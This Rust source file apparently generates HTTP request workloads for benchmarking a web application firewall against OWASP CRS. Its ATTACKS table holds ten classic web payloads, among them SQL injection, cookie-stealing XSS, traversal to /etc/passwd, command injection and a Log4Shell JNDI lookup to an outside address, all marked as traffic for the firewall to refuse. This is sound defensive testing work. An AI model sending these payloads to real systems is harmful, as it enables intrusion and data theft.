//! What is sent.

use std::fmt::Write as _;
use std::net::Ipv4Addr;
use std::sync::{Arc, LazyLock};

use bytes::Bytes;
use http::header::{
    ACCEPT, ACCEPT_ENCODING, ACCEPT_LANGUAGE, CACHE_CONTROL, CONTENT_TYPE, COOKIE, REFERER,
    USER_AGENT,
};
use http::{HeaderMap, HeaderName, HeaderValue, Method};

use crate::random::Random;

/// The host that all requests are for.
pub const HOST: &str = "shop.example.com";

const X_FORWARDED_FOR: HeaderName = HeaderName::from_static("x-forwarded-for");

/// The members of a body of 10 KiB of JSON, where there are many.
const MANY_VALUES: usize = 389;
/// The same, where there are few, of 128 words each.
const FEW_VALUES: usize = 10;
const FORM_BYTES: usize = 2 << 10;
const UPLOAD_BYTES: usize = 100 << 10;

/// A kind of request.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    /// A browser's GET of a page: fourteen fields.
    Get,
    /// The same with 8 arguments and 5 cookies.
    Arguments,
    /// A form of 2 KiB.
    Form,
    /// 10 KiB of JSON, ten values.
    JsonOfFew,
    /// 10 KiB of JSON, 389 values.
    JsonOfMany,
    /// A file of 100 KiB, as multipart/form-data.
    Upload,
    /// Attacks that OWASP CRS refuses at paranoia 1.
    Attack,
    /// All of them, about as often as a shop sees them.
    Mix,
}

impl Kind {
    /// All kinds, in the order of the tables.
    pub const ALL: [Self; 8] = [
        Self::Get,
        Self::Arguments,
        Self::Form,
        Self::JsonOfFew,
        Self::JsonOfMany,
        Self::Upload,
        Self::Attack,
        Self::Mix,
    ];

    /// Its name on the command line and in files.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Get => "get",
            Self::Arguments => "arguments",
            Self::Form => "form",
            Self::JsonOfFew => "json-few",
            Self::JsonOfMany => "json-many",
            Self::Upload => "upload",
            Self::Attack => "attack",
            Self::Mix => "mix",
        }
    }

    /// Its name in tables.
    #[must_use]
    pub const fn title(self) -> &'static str {
        match self {
            Self::Get => "GET",
            Self::Arguments => "GET, 8 arguments, 5 cookies",
            Self::Form => "form, 2 KiB",
            Self::JsonOfFew => "JSON 10 KiB, 10 values",
            Self::JsonOfMany => "JSON 10 KiB, 389 values",
            Self::Upload => "upload, 100 KiB",
            Self::Attack => "attack",
            Self::Mix => "mix",
        }
    }
}

/// A request, ready to be sent.
#[derive(Clone, Debug)]
pub struct Prepared {
    /// GET or POST.
    pub method: Method,
    /// Path and query.
    pub target: String,
    /// Fields, but for Host and Content-Length.
    pub headers: HeaderMap,
    /// Its body; empty for GET.
    pub body: Bytes,
    /// Who sends it; in X-Forwarded-For too.
    pub client: Ipv4Addr,
    /// Whether a WAF is to refuse it.
    pub is_attack: bool,
}

/// Whether values come again.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Values {
    /// They are made up anew for each request: what a server remembers of them is of no use to it.
    New,
    /// Those of sixteen requests of each client come again and again.
    Seen,
}

/// How many requests come again, where they do.
const SEEN: usize = 16;

/// Requests of one kind without end, from the same clients in turn.
#[derive(Clone, Debug)]
pub struct Requests {
    kind: Kind,
    values: Values,
    first: Random,
    random: Random,
    clients: Arc<[(Ipv4Addr, HeaderValue)]>,
    sent: usize,
}

impl Requests {
    /// Requests of this kind. Each seed has others.
    #[must_use]
    pub fn new(
        kind: Kind,
        values: Values,
        clients: &Arc<[(Ipv4Addr, HeaderValue)]>,
        seed: u64,
    ) -> Self {
        let random = Random::new(seed);
        Self {
            kind,
            values,
            first: random.clone(),
            random,
            clients: Arc::clone(clients),
            sent: 0,
        }
    }

    /// The next one.
    pub fn make(&mut self) -> Prepared {
        if self.values == Values::Seen && self.sent.is_multiple_of(SEEN) {
            self.random = self.first.clone();
        }
        let random = &mut self.random;
        let kind = match self.kind {
            Kind::Mix => of_mix(random),
            kind => kind,
        };
        let mut prepared = page(random);
        match kind {
            Kind::Get | Kind::Mix => {}
            Kind::Arguments => add_arguments(&mut prepared, random),
            Kind::Form => post(
                &mut prepared,
                form(random),
                "application/x-www-form-urlencoded",
            ),
            Kind::JsonOfFew => post(&mut prepared, json(FEW_VALUES, 128, random), JSON),
            Kind::JsonOfMany => post(&mut prepared, json(MANY_VALUES, 1, random), JSON),
            Kind::Upload => post(&mut prepared, UPLOAD.clone(), MULTIPART),
            Kind::Attack => attack(&mut prepared, self.sent),
        }
        let clients = &self.clients;
        if let Some((address, value)) = clients.get(self.sent % clients.len().max(1)) {
            prepared.client = *address;
            prepared.headers.insert(X_FORWARDED_FOR, value.clone());
        }
        self.sent += 1;
        prepared
    }
}

/// Of a hundred requests of a shop: pages and their pictures, searches, a few forms, calls of its own scripts,
/// and a scanner that tries something.
fn of_mix(random: &mut Random) -> Kind {
    match random.below(100) {
        0..68 => Kind::Get,
        68..85 => Kind::Arguments,
        85..91 => Kind::Form,
        91..95 => Kind::JsonOfFew,
        95..97 => Kind::JsonOfMany,
        97..98 => Kind::Upload,
        _ => Kind::Attack,
    }
}

/// What every browser sends with every request.
static BROWSER: LazyLock<HeaderMap> = LazyLock::new(|| {
    let fields = [
        (
            USER_AGENT,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
        ),
        (
            ACCEPT,
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        ),
        (ACCEPT_LANGUAGE, "en-GB,en;q=0.9,de;q=0.8"),
        (ACCEPT_ENCODING, "gzip, deflate, br"),
        (REFERER, "https://shop.example.com/products"),
        (COOKIE, "session=8d3c5a41f09b7c2e; consent=yes; theme=dark"),
        (CACHE_CONTROL, "max-age=0"),
        (HeaderName::from_static("upgrade-insecure-requests"), "1"),
        (HeaderName::from_static("sec-fetch-dest"), "document"),
        (HeaderName::from_static("sec-fetch-mode"), "navigate"),
        (HeaderName::from_static("sec-fetch-site"), "same-origin"),
        (HeaderName::from_static("priority"), "u=0, i"),
    ];
    fields
        .into_iter()
        .map(|(name, value)| (name, HeaderValue::from_static(value)))
        .collect()
});

fn page(random: &mut Random) -> Prepared {
    Prepared {
        method: Method::GET,
        target: format!("/products/{}/{}", word(random), word(random)),
        headers: BROWSER.clone(),
        body: Bytes::new(),
        client: Ipv4Addr::LOCALHOST,
        is_attack: false,
    }
}

/// Seven letters. No command that CRS knows begins with two vowels; "...time " and "visudo" it finds anywhere.
fn word(random: &mut Random) -> String {
    const BEGINNINGS: &[&str] = &["ea", "ei", "eu", "oa", "oi", "ou", "ua", "uo"];
    const CONSONANTS: &[&str] = &["b", "d", "f", "g", "k", "l", "n", "p", "r", "s", "t", "z"];
    const VOWELS: &[&str] = &["a", "e", "i", "o", "u"];
    let mut word = String::with_capacity(8);
    let mut push = |parts: &[&str]| {
        let at = usize::try_from(random.below(parts.len() as u64)).unwrap_or(0);
        word.push_str(parts.get(at).copied().unwrap_or_default());
    };
    push(BEGINNINGS);
    for _ in 0..2 {
        push(CONSONANTS);
        push(VOWELS);
    }
    push(CONSONANTS);
    word
}

fn words(count: usize, between: &str, random: &mut Random) -> String {
    let words: Vec<String> = (0..count).map(|_| word(random)).collect();
    words.join(between)
}

fn add_arguments(prepared: &mut Prepared, random: &mut Random) {
    for number in 0..8 {
        let mark = if number == 0 { '?' } else { '&' };
        let _ = write!(prepared.target, "{mark}name{number}={}", word(random));
    }
    let cookies: Vec<String> = (0..5)
        .map(|number| format!("cookie{number}={}", word(random)))
        .collect();
    if let Ok(value) = HeaderValue::try_from(cookies.join("; ")) {
        prepared.headers.insert(COOKIE, value);
    }
}

fn post(prepared: &mut Prepared, body: impl Into<Bytes>, kind: &'static str) {
    prepared.method = Method::POST;
    prepared.body = body.into();
    let kind = HeaderValue::from_static(kind);
    prepared.headers.insert(CONTENT_TYPE, kind);
}

fn form(random: &mut Random) -> String {
    let mut form = String::with_capacity(FORM_BYTES + 128);
    while form.len() < FORM_BYTES {
        let mark = if form.is_empty() { "" } else { "&" };
        let at = form.len();
        let _ = write!(form, "{mark}field{at}={}", words(8, "+", random));
    }
    form
}

const JSON: &str = "application/json";

fn json(values: usize, words_each: usize, random: &mut Random) -> String {
    let member = |number| {
        format!(
            "\"attribute{number}\":\"{}\"",
            words(words_each, " ", random)
        )
    };
    let members: Vec<String> = (0..values).map(member).collect();
    format!("{{{}}}", members.join(","))
}

const MULTIPART: &str = "multipart/form-data; boundary=----PalisadeBoundary7MA4YWxkTrZu0gW";

/// A picture, more or less: bytes of all values.
static UPLOAD: LazyLock<Bytes> = LazyLock::new(|| {
    let mut random = Random::new(12);
    let boundary = "------PalisadeBoundary7MA4YWxkTrZu0gW";
    let mut body = format!(
        "{boundary}\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"oak-chair.png\"\r\n\
         Content-Type: image/png\r\n\r\n\u{0}"
    )
    .into_bytes();
    let mut byte = || u8::try_from(random.below(256)).unwrap_or(0);
    body.extend((0..UPLOAD_BYTES).map(|_| byte()));
    body.extend_from_slice(format!("\r\n{boundary}--\r\n").as_bytes());
    body.into()
});

/// Attacks, each of which OWASP CRS refuses at paranoia 1: queries, a form, JSON, a header field.
const ATTACKS: [(Option<(&str, &str)>, &str); 10] = [
    (None, "id=1%27%20or%201=1--%20"),
    (
        None,
        "id=1%20union%20select%20name,password%20from%20users--",
    ),
    (None, "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    (None, "q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    (None, "file=../../../../etc/passwd"),
    (None, "host=127.0.0.1;cat%20/etc/passwd"),
    (
        None,
        "page=php://filter/convert.base64-encode/resource=index",
    ),
    (None, "q=%24%7Bjndi:ldap://198.51.100.9/a%7D"),
    (
        Some((
            "application/x-www-form-urlencoded",
            "user=admin%27%20or%20%271%27=%271&password=x",
        )),
        "",
    ),
    (
        Some((
            JSON,
            r#"{"user":"admin","note":"<script>alert(document.cookie)</script>"}"#,
        )),
        "",
    ),
];

fn attack(prepared: &mut Prepared, number: usize) {
    let attack = ATTACKS.get(number % ATTACKS.len());
    let (body, query) = attack.copied().unwrap_or_default();
    if let Some((kind, body)) = body {
        post(prepared, body.as_bytes(), kind);
    }
    if !query.is_empty() {
        let _ = write!(prepared.target, "?{query}");
    }
    prepared.is_attack = true;
}

#[cfg(test)]
mod tests {
    use super::*;

    fn made(kind: Kind, count: usize) -> Vec<Prepared> {
        let clients = [(
            Ipv4Addr::new(198, 51, 100, 7),
            HeaderValue::from_static("198.51.100.7"),
        )];
        let mut requests = Requests::new(kind, Values::New, &clients.into(), 1);
        (0..count).map(|_| requests.make()).collect()
    }

    #[track_caller]
    fn check(kind: Kind, bytes: std::ops::Range<usize>) {
        for prepared in made(kind, 3) {
            assert!(bytes.contains(&prepared.body.len()), "{prepared:?}");
            let is_post = prepared.method == Method::POST;
            assert_eq!(is_post, !prepared.body.is_empty(), "{prepared:?}");
            assert_eq!(prepared.headers["x-forwarded-for"], "198.51.100.7");
        }
    }

    #[test]
    fn bodies_are_as_long_as_tables_say() {
        check(Kind::Get, 0..1);
        check(Kind::Arguments, 0..1);
        check(Kind::Form, 2_048..2_200);
        check(Kind::JsonOfFew, 9_500..11_000);
        check(Kind::JsonOfMany, 9_500..11_000);
        check(Kind::Upload, 102_400..103_000);
    }

    #[test]
    fn values_are_new_each_time() {
        for kind in [Kind::Get, Kind::Arguments, Kind::Form, Kind::JsonOfMany] {
            let made = made(kind, 2);
            let [first, second] = made.as_slice() else {
                panic!("two requests")
            };
            assert_ne!((&first.target, &first.body), (&second.target, &second.body));
        }
    }

    #[test]
    fn or_those_of_sixteen_requests_come_again() {
        let mut requests = Requests::new(Kind::Arguments, Values::Seen, &[].into(), 1);
        let targets: Vec<String> = (0..32).map(|_| requests.make().target).collect();
        assert_eq!(targets.get(..16), targets.get(16..));
        assert_ne!(targets.first(), targets.get(1));
    }

    #[test]
    fn the_mix_has_every_kind_in_it() {
        let mixed = made(Kind::Mix, 2_000);
        let share =
            |wanted: fn(&Prepared) -> bool| mixed.iter().filter(|made| wanted(made)).count();
        assert!((1_600..1_800).contains(&share(|made| made.body.is_empty())));
        assert!((5..60).contains(&share(|made| made.body.len() > 100_000)));
        assert!((10..80).contains(&share(|made| made.is_attack)));
    }
}
